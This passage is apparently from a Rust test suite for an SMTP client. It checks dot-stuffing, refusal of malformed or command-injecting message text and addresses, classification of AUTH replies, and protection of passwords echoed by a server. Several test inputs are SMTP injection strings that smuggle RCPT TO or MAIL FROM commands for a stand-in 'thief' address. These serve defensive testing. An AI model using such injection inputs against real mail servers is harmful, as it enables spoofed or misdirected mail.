}

#[test]
fn what_could_be_taken_for_a_command_is_not_sent() {
    let raw = Raw::start(usual);
    let (from, to) = (SENDER, "success@simulator.amazonses.com");
    let sent = |from: &str, to: &str, text: &str| raw.send("mx1.example.com", OutgoingMessage { from, to, text });
    // A text's line ends are made whole, and its dots doubled, once.
    for (text, expected) in [
        ("A: b\r\n\r\n.\r\n..x\r\n", "A: b\r\n\r\n..\r\n...x\r\n.\r\n"),
        ("A: b\n\n.\nMAIL FROM:<thief@example.com>\n", "A: b\r\n\r\n..\r\nMAIL FROM:<thief@example.com>\r\n.\r\n"),
        ("A: b\n\n.\r\nQUIT", "A: b\r\n\r\n..\r\nQUIT\r\n.\r\n"),
    ] {
        assert!(matches!(sent(from, to, text), LoginVerdict::Accepted { .. }), "{text:?}");
        let heard = raw.heard();
        let message = heard.split_once("DATA\r\n").expect("DATA").1;
        assert_eq!(message, format!("{expected}QUIT\r\n"), "{text:?}");
    }
    // What cannot be made whole is refused before any of it is said, and the login is not blamed.
    let long = "x".repeat(999);
    for text in ["a\rb", "a\r.\rb", "a\r.\r\nb", "a\n\r.\r\nb", "a\r\r\n", "a\0b", "a\u{1b}b", "\u{e4}", long.as_str()]
    {
        let verdict = sent(from, to, text);
        assert_unknown(
            &verdict,
            Class::Smtp,
            false,
            &["of the message", "nothing of it was sent"][..usize::from(text.len() < 900)],
        );
        let heard = raw.heard();
        assert!(heard.ends_with("QUIT\r\n") && !heard.contains("MAIL") && !heard.contains("DATA"), "{text:?}: {heard}");
    }
    for address in [
        "a@b.example\r\nRCPT TO:<thief@example.com>",
        "a@b.example> SIZE=1",
        "a@b.example\n",
        "a\0@b.example",
        "<a@b.example",
        "\u{e4}@b.example",
    ] {
        for (from, to) in [(address, to), (from, address)] {
            assert_unknown(&sent(from, to, "A: b\r\n\r\nc\r\n"), Class::Smtp, false, &[]);
            let heard = raw.heard();
            assert!(!heard.contains("MAIL") && !heard.contains("RCPT"), "{address:?}: {heard}");
        }
    }
}

/// What somebody answers to AUTH (whole, with its line ends), and what that proves.
#[test]
fn every_answer_to_a_login_is_taken_for_what_it_is() {
    enum Means {
        Accepted(&'static str),
        Refused(&'static str),
        Temporary(Class, &'static str),
        Permanent(Class, &'static str),
    }
    use Means::{Accepted, Permanent, Refused, Temporary};
    static LONG: std::sync::LazyLock<Vec<u8>> =
        std::sync::LazyLock::new(|| [b"235 ", &[b'x'; 40_000][..], b"\r\n"].concat());
    let nonsense = "not SMTP";
    let table: Vec<(&'static [u8], Means)> = vec![
        (b"235 2.7.0 yes\r\n", Accepted("235 2.7.0 yes")),
        // RFC 5321, section 4.2: the code may stand alone.
        (b"235\r\n", Accepted("235")),
        (b"235 \r\n", Accepted("235")),
        (b"235-a\r\n235 b\r\n", Accepted("235 a | b")),
        (b"235-a\r\n235\r\n", Accepted("235 a")),
        (b"235 without its CR\n", Accepted("235 without its CR")),
        (b"535\r\n", Refused("535")),
        (b"535 no\r\n", Refused("535 no")),
        (b"535-no\r\n535 never\r\n", Refused("535 no | never")),
        (b"535 no\n", Refused("535 no")),
        (b"454\r\n", Temporary(Class::Smtp, "454")),
        (b"421 later\r\n", Temporary(Class::Smtp, "421 later")),
        (b"554 Access denied\r\n", Permanent(Class::Smtp, "554 Access denied")),
        (b"530\r\n", Permanent(Class::Smtp, "530")),
        // No SMTP: a proxy, a captive portal, a server in trouble. Tomorrow it may be the server again.
        (b"HTTP/1.1 503 Service Unavailable\r\n\r\n", Temporary(Class::Smtp, nonsense)),
        (b"\r\n", Temporary(Class::Smtp, nonsense)),
        (b"ok\r\n", Temporary(Class::Smtp, nonsense)),
        (b"235ok\r\n", Temporary(Class::Smtp, nonsense)),
        (b"2350\r\n", Temporary(Class::Smtp, nonsense)),
        (b" 235 ok\r\n", Temporary(Class::Smtp, nonsense)),
        (b"135 ok\r\n", Temporary(Class::Smtp, nonsense)),
        (b"735 ok\r\n", Temporary(Class::Smtp, nonsense)),
        (b"\xff\xfe\x00\r\n", Temporary(Class::Smtp, nonsense)),
        (b"235-a\r\n535 b\r\n", Temporary(Class::Smtp, nonsense)),
        (b"535-a\r\n235 b\r\n", Temporary(Class::Smtp, nonsense)),
        (b"235-a\r\nxyz\r\n", Temporary(Class::Smtp, nonsense)),
        (&LONG, Temporary(Class::Smtp, nonsense)),
        // A reply, and none that anybody gives there.
        (b"250 fine\r\n", Temporary(Class::Smtp, "it said: 250 fine")),
        (b"334 more\r\n", Temporary(Class::Smtp, "it said: 334 more")),
        // Cut off: the network.
        (b"", Temporary(Class::Network, "closed the connection")),
        (b"2", Temporary(Class::Network, "closed the connection")),
        (b"235", Temporary(Class::Network, "closed the connection")),
        (b"235 yes\r", Temporary(Class::Network, "closed the connection")),
        (b"235-", Temporary(Class::Network, "closed the connection")),
        (b"235-yes\r\n", Temporary(Class::Network, "closed the connection")),
    ];
    for (answer, means) in table {
        let said = String::from_utf8_lossy(&answer[..answer.len().min(60)]).into_owned();
        let raw = Raw::start(move |line| match line.split(' ').next() {
            Some("AUTH") => (!answer.is_empty()).then(|| answer.to_vec()),
            _ => usual(line),
        });
        let verdict = raw.login(PASSWORD);
        match means {
            Accepted(words) => assert_eq!(verdict, LoginVerdict::Accepted { reply: words.into() }, "{said:?}"),
            Refused(words) => assert_eq!(verdict, LoginVerdict::Refused { reply: words.into() }, "{said:?}"),
            Temporary(class, words) => assert_unknown(&verdict, class, true, &[words]),
            Permanent(class, words) => assert_unknown(&verdict, class, false, &[words]),
        }
    }
}

#[test]
fn what_is_no_smtp_gives_no_password_away_either() {
    let password = "k7\"Qz\\9w\"Lm\\2x\"Rt'5v";
    let long = "x".repeat(180);
    for answer in [
        format!("unknown: {USER} {password}\r\n"),
        format!("{long} {}\r\n", BASE64.encode(format!("\0{USER}\0{password}"))),
        format!("235{password}\r\n"),
        format!("235-{password}\r\n535 {password}\r\n"),
    ] {
        let said = answer.clone();
        let raw = Raw::start(move |line| match line.split(' ').next() {
            Some("AUTH") => Some(said.clone().into_bytes()),
            _ => usual(line),
        });
        let LoginVerdict::Unknown { words, .. } = raw.login(password) else {
            panic!("{answer:?} proves nothing");
        };
        gives_nothing_away(&words, password);
    }
}

#[test]
fn what_a_server_offers_is_known_in_any_case_and_spelling() {
    for offers in [
        "250-x\r\n250 auth plain login\r\n",
        "250-x\r\n250-SIZE 1\r\n250 Auth=Plain\r\n",
        "250-x\n250 AUTH LOGIN PLAIN\n",
        "250-x\r\n250-A\r\n250-B\r\n250-C\r\n250-D\r\n250-E\r\n250-F\r\n250-G\r\n250-H\r\n250-I\r\n250-J\r\n250-K\r\n250-L\r\n250-M\r\n\
         250-N\r\n250-O\r\n250-P\r\n250-Q\r\n250 AUTH PLAIN\r\n",
    ] {
        let raw = Raw::start(move |line| match line.split(' ').next() {
            Some("EHLO") => Some(offers.into()),
            _ => usual(line),
        });
        assert_eq!(raw.login(PASSWORD), LoginVerdict::Accepted { reply: "235 ok".into() }, "{offers:?}");
    }
}
